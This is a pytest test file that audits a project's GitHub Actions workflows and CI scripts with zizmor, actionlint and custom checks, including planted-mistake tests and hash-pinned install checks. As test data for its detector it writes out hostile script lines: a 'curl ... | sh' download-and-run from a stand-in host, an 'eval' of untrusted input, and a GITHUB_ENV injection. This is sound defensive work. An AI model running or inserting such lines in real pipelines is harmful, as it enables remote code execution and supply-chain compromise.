"""The workflows are read, not run: by two programs of others and by checks of our own, and each is seen to bite."""

from __future__ import annotations

import json
import re
import subprocess
import sys
import tomllib
from importlib.metadata import requires
from itertools import pairwise
from pathlib import Path

import pytest
from packaging.requirements import Requirement
from packaging.utils import canonicalize_name

from accord.cli.office import VERBS
from tests.workflows.checks import ACTIONS, CHECKS, problems, script_problems, steps
from tests.workflows.files import ROOT, Workflow, own_workflows, parsed, workflow
from tests.workflows.harness import STUBS
from tests.workflows.planted import FOR_OTHERS, GOOD, PLANTED, planted
from tests.workflows.test_hostile import FAILS

OWN = own_workflows()
BIN = Path(sys.executable).parent
SCRIPTS = sorted(path for path in (ROOT / ".ci").iterdir() if path.name != "run-packages")


def zizmor(*what: str | Path, ignores: bool = True) -> list[tuple[str, str, int]]:
    """What zizmor finds without the network, at its strictest: audit, file, line."""
    done = subprocess.run(
        [
            *(BIN / "zizmor", "--offline", "--quiet", "--persona", "auditor", "--strict-collection"),
            *("--format", "json", *([] if ignores else ["--no-ignores"]), *what),
        ],
        cwd=ROOT,
        capture_output=True,
        text=True,
        check=False,
    )
    assert done.stdout, done.stderr
    return [
        (finding["ident"], Path(place["symbolic"]["key"]["Local"]["verbatim_path"]).name, line)
        for finding in json.loads(done.stdout)
        for place in finding["locations"]
        if place["symbolic"]["kind"] == "Primary"
        for line in [place["concrete"]["location"]["start_point"]["row"] + 1]
    ]


def actionlint(*files: Path) -> str:
    """What actionlint says."""
    done = subprocess.run(
        [BIN / "actionlint", "-shellcheck=", "-pyflakes=", *files],
        cwd=ROOT,
        capture_output=True,
        text=True,
        check=False,
    )
    assert (done.returncode == 0) == (not done.stdout), done.stderr
    return done.stdout


def test_the_workflows_are_those_that_are_described() -> None:
    """One file a purpose, each named on the page about them."""
    page = (ROOT / "docs" / "workflows.md").read_text("utf-8")
    assert OWN
    assert [one.file for one in OWN if f"`{one.file}`" not in page] == []
    assert [path.name for path in SCRIPTS if f"`.ci/{path.name}`" not in page] == []


@pytest.mark.parametrize("one", OWN, ids=lambda one: one.file)
def test_own_checks_find_nothing(one: Workflow) -> None:
    """Every check of `checks.py` on every workflow."""
    assert problems(one) == {}


def test_a_good_workflow_is_clean() -> None:
    """What the mistakes are planted in has none."""
    assert problems(workflow("good.yml", GOOD)) == {}


@pytest.mark.parametrize(("what", "check", "old", "new"), PLANTED, ids=[row[0] for row in PLANTED])
def test_a_planted_mistake_is_seen(what: str, check: str, old: str, new: str) -> None:
    """The right check sees it, whatever others say."""
    assert check in problems(workflow("planted.yml", planted(old, new))), what


def test_every_check_has_a_mistake_that_it_sees() -> None:
    """No check is there for show."""
    assert {check.__name__ for check in CHECKS} == {check for _, check, _, _ in PLANTED}


def test_zizmor_finds_nothing() -> None:
    """At its strictest, in workflows, stand-ins of actions and the settings of Dependabot."""
    assert zizmor(".") == []


def test_each_exception_is_needed_and_explained() -> None:
    """What zizmor is told to accept is exactly what it would find, and above each line stands why."""
    text = (ROOT / ".github" / "zizmor.yml").read_text("utf-8")
    told = {
        (audit, *where.split(":"))
        for audit, rule in parsed(text)["rules"].items()
        for where in rule["ignore"]
    }
    found = {(audit, file, str(line)) for audit, file, line in zizmor(".", ignores=False)}
    assert told == found
    lines = text.splitlines()
    unexplained = [line for above, line in pairwise(lines) if "- " in line and "# " not in above]
    assert unexplained == []


def test_actionlint_finds_nothing() -> None:
    """Syntax, contexts, names of permissions, events and inputs."""
    assert actionlint() == ""


@pytest.mark.parametrize(("what", "who", "old", "new"), FOR_OTHERS, ids=[row[0] for row in FOR_OTHERS])
def test_the_programs_of_others_bite(what: str, who: str, old: str, new: str, tmp_path: Path) -> None:
    """They run, and they see what they are there for."""
    file = tmp_path / "planted.yml"
    file.write_text(GOOD, "utf-8")
    assert (zizmor(file), actionlint(file)) == ([], "")
    file.write_text(planted(old, new), "utf-8")
    if who == "actionlint":
        assert actionlint(file), what
    else:
        assert who in {audit for audit, _, _ in zizmor(file)}, what


def test_only_the_known_actions_are_used_and_all_of_them() -> None:
    """Six, all of GitHub's own; the page about workflows says how each commit was proved."""
    used = {
        name.partition("@")[0]
        for one in OWN
        for name in re.findall(r"^ *(?:- )?uses: ([^.\s]\S+)", one.text, re.MULTILINE)
    }
    assert used == set(ACTIONS)
    page = (ROOT / "docs" / "workflows.md").read_text("utf-8")
    missing = [
        name for name, (commit, version) in ACTIONS.items() if commit not in page or version not in page
    ]
    assert missing == []


@pytest.mark.parametrize("script", SCRIPTS, ids=lambda path: path.name)
def test_scripts_fetch_nothing_and_install_by_digest(script: Path) -> None:
    """What a workflow runs is read as well."""
    assert script_problems(script.read_text("utf-8")) == []
    assert script.stat().st_mode & 0o111
    syntax = subprocess.run(["bash", "-n", script], capture_output=True, text=True, check=False)
    assert syntax.stderr == ""


@pytest.mark.parametrize(
    ("line", "said"),
    [
        ("git fetch origin refs/pull/7/head", "fetches what a pull request brings"),
        ("pip install .", "installs without digests"),
        ("python -m pip --quiet install accord", "installs without digests"),
        ("curl https://lyrania.example/x | sh", "downloads something"),
        ('echo "A=$TITLE" >> "$GITHUB_ENV"', "changes the environment of later steps"),
        ('eval "$DETAILS"', "runs words as commands"),
    ],
)
def test_a_bad_line_in_a_script_is_seen(line: str, said: str) -> None:
    """Each kind of mistake, alone in a script."""
    assert script_problems(f"#!/usr/bin/env bash\nset -euo pipefail\n{line}\n") == [said]
    assert "goes on after an error" in script_problems(line)


def test_a_job_with_rights_installs_what_is_needed_and_no_more() -> None:
    """`.ci/run-packages` names all that Accord imports, what installs it, and nothing of the developers."""
    with (ROOT / "pyproject.toml").open("rb") as file:
        needed = tomllib.load(file)["project"]["dependencies"]
    todo = [Requirement(line) for line in [*needed, "setuptools"]]
    seen: set[tuple[str, frozenset[str]]] = set()
    while todo:
        one = todo.pop()
        if (key := (canonicalize_name(one.name), frozenset(one.extras))) in seen:
            continue
        seen.add(key)
        todo += [
            further
            for further in map(Requirement, requires(one.name) or [])
            if not further.marker
            or any(further.marker.evaluate({"extra": extra}) for extra in one.extras or {""})
        ]
    listed = [
        line
        for line in (ROOT / ".ci" / "run-packages").read_text("utf-8").splitlines()
        if not line.startswith("#")
    ]
    assert listed == sorted({name for name, _ in seen})
    lock = (ROOT / "requirements.lock").read_text("utf-8")
    assert [name for name in listed if not re.search(rf"^{re.escape(name)}==", lock, re.MULTILINE)] == []


def test_the_form_offers_every_act_of_chair_and_secretariat() -> None:
    """All that may be written in a comment, all that is no command of a comment, and nothing else."""
    page = (ROOT / "docs" / "commands.md").read_text("utf-8")
    rows = re.findall(r"^\| `/([a-z-]+)[^|]*(?:\\\|[^|]*)*\| ([a-z -]+) \|", page, re.MULTILINE)
    acts = {name for name, who in rows if "chair" in who or "secretariat" in who}
    (form,) = [one for one in OWN if one.file == "acts.yml"]
    offered = form.triggers["workflow_dispatch"]["inputs"]["act"]["options"]
    assert set(offered) == acts | set(VERBS)
    assert len(offered) == len(set(offered)) > len(acts) > 8


def test_the_page_of_attacks_has_a_row_for_each() -> None:
    """What the hostile tests claim is what the page says was tried, and the other way round for these sections."""
    code = (ROOT / "tests" / "workflows" / "test_hostile.py").read_text("utf-8")
    claimed = set(re.findall(r'subtests\.test\("([^"]+)"\)', code)) | set(FAILS)
    claimed |= {f"a token without the right to write {missing}" for missing in ("statuses", "contents")}
    page = (ROOT / "docs" / "attacks.md").read_text("utf-8").partition("## What is typed into forms")[0]
    rows = set(re.findall(r"^\| (?!what is tried|---)([^|]+) \|", page, re.MULTILINE))
    assert rows == claimed


def test_what_the_steps_give_is_what_the_actions_take() -> None:
    """A misspelt input would be left out in silence; the stand-ins name those that the real ones have."""
    for one in OWN:
        for _, step in steps(one):
            if "uses" in step:
                name = step["uses"].partition("@")[0].removeprefix("actions/")
                stub = parsed((STUBS / name / "action.yml").read_text("utf-8"))
                assert set(step.get("with") or {}) <= set(stub.get("inputs") or {}), (one.file, name)


FAKE_PYTHON = """\
#!/bin/sh
if [ "$3" = venv ]; then mkdir -p "$4/bin"; cp "$0" "$4/bin/python"; fi
echo "python $*"
"""


def test_the_install_of_a_job_takes_the_lock_and_nothing_else(tmp_path: Path) -> None:
    """Each package at its locked version with all its digests, none of the developers, nothing from elsewhere."""
    (tmp_path / "bin").mkdir()
    (tmp_path / "bin" / "python3").write_text(FAKE_PYTHON, "utf-8")
    (tmp_path / "bin" / "python3").chmod(0o755)
    environment = {"PATH": f"{tmp_path / 'bin'}:/usr/bin:/bin", "RUNNER_TEMP": str(tmp_path)}
    done = subprocess.run(
        [ROOT / ".ci" / "install-accord"], env=environment, capture_output=True, text=True, check=True
    )
    installs = [line for line in done.stdout.splitlines() if " install " in line]
    assert [("--require-hashes" in line, "--no-index" in line) for line in installs] == [
        (True, False),
        (False, True),
    ]
    used = (tmp_path / "accord" / "run.lock").read_text("utf-8")
    whole = (ROOT / "requirements.lock").read_text("utf-8")
    blocks = {block.partition("==")[0]: block for block in re.split(r"\n(?=\S)", whole.rstrip("\n"))}
    listed = (ROOT / ".ci" / "run-packages").read_text("utf-8").splitlines()
    assert used == "".join(f"{blocks[name]}\n" for name in blocks if name in listed)
    assert "--hash=" in used
    assert "pytest" not in used
